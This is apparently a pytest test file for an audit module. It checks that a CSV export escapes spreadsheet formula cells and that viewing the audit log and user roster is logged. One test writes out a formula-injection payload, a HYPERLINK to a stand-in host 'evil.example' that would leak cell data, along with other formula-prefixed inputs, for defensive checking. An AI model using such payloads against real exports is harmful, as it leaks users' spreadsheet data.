"""Issue 16: the audit CSV is safe in a spreadsheet; reading the log and the roster is audited."""

from __future__ import annotations

import csv
import io

from lodestar.review.audit import csv_cell, list_events

from ..review.conftest import Operation


def test_csv_export_neutralises_formula_cells(op: Operation) -> None:
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    anon = op.client()
    for name in (evil, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        anon.post("/api/login", json={"username": name, "password": "wrong"})
    export = op.client("auditor").get("/api/audit/export", params={"format": "csv"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    actors = [r[2] for r in rows[1:]]
    assert "'" + evil in actors and evil not in actors
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_cell_rules() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("plain") == "plain"
    assert csv_cell(None) == ""
    assert csv_cell(-5) == -5  # numbers are numbers, not formulas


def _actions(op: Operation) -> list[tuple[str, str, dict[str, object]]]:
    with op.ws.store.session() as session:
        return [(e["action"], e["actor"], e["detail"]) for e in list_events(session, limit=1000)]


def test_reading_the_audit_log_and_the_roster_is_audited(op: Operation) -> None:
    auditor, coord = op.client("auditor"), op.client("coord")
    before = len(_actions(op))
    assert auditor.get("/api/audit", params={"action": "login"}).status_code == 200
    assert auditor.get("/audit", params={"actor": "coord", "verify": "1"}).status_code == 200
    assert auditor.get("/api/audit/verify").status_code == 200
    assert coord.get("/api/users").status_code == 200
    assert coord.get("/api/agencies").status_code == 200
    seen = _actions(op)[: len(_actions(op)) - before][::-1]  # oldest first
    assert [(a, who) for a, who, _ in seen] == [
        ("audit.view", "auditor"),
        ("audit.view", "auditor"),
        ("audit.verify", "auditor"),
        ("audit.verify", "auditor"),
        ("people.view", "coord"),
        ("people.view", "coord"),
    ]
    assert seen[0][2]["action"] == "login" and seen[0][2]["via"] == "api"
    assert seen[1][2]["actor"] == "coord" and seen[1][2]["via"] == "page"
    assert [d["what"] for _, _, d in seen[4:]] == ["users", "agencies"]
